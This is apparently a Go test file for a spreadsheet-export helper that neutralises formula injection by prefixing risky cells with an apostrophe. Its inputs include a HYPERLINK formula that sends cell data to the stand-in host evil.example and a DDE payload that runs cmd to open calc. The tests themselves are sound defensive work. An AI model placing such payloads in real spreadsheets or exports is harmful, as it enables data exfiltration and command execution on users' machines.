package spreadsheet_test

import (
	"bytes"
	"encoding/csv"
	"reflect"
	"testing"
	"time"

	"github.com/gongkai/gongkai/internal/spreadsheet"
)

func TestText(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"张三", "张三"},
		{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, `'=HYPERLINK("http://evil.example/?"&A1,"点击")`},
		{"+86 138", "'+86 138"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-", "'-"},
		{"-3", "-3"},
		{"+3", "+3"},
		{"12.5", "12.5"},
		{"-0.25", "-0.25"},
		{"-Inf", "'-Inf"},
		{"1404**********1234", "1404**********1234"},
		{"a=b", "a=b"},
		{"'=already", "'=already"},
	}
	for _, tt := range tests {
		if got := spreadsheet.Text(tt.in); got != tt.want {
			t.Errorf("Text(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestValuesKeepNumbers(t *testing.T) {
	at := time.Date(2026, 12, 4, 0, 0, 0, 0, time.UTC)
	in := []any{"=1+1", -3, -2.5, "", "报告.pdf", at, "-"}
	want := []any{"'=1+1", -3, -2.5, "", "报告.pdf", at, "'-"}
	if got := spreadsheet.Values(in); !reflect.DeepEqual(got, want) {
		t.Errorf("Values = %#v, want %#v", got, want)
	}
	if in[0] != "=1+1" {
		t.Error("Values changed its argument")
	}
}

func TestCSVNeutralisesEveryColumn(t *testing.T) {
	var b bytes.Buffer
	w := spreadsheet.NewCSV(&b)
	if err := w.Write("=cmd|' /C calc'!A0", "-5", "@x", "ok"); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"'=cmd|' /C calc'!A0", "-5", "'@x", "ok"}}
	if !reflect.DeepEqual(rows, want) {
		t.Errorf("CSV rows %q, want %q", rows, want)
	}
}
